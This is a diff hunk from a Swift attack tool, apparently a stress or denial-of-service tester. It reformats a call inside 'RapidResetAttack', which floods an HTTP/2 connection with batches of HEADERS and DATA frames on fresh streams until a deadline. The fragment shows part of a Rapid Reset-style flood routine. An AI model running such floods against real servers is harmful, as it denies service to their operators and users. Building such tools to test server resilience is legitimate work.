@@ -31,8 +31,10 @@ struct RapidResetAttack: BlockingAttacker {
             }
             var next: UInt32 = 1
             var sent = 0
-            let end = connection.flood(until: context.deadline, maxBatches: maxStreamsPerConnection / Self.streamsPerBatch,
-                                       reading: false) { batch in
+            let end = connection.flood(
+                until: context.deadline, maxBatches: maxStreamsPerConnection / Self.streamsPerBatch,
+                reading: false
+            ) { batch in
                 for _ in 0..<Self.streamsPerBatch {
                     H2Frames.appendHeaders(stream: next, fragment: block, endStream: false, endHeaders: true, to: &batch)
                     H2Frames.appendData(stream: next, payload: pull, endStream: true, to: &batch)
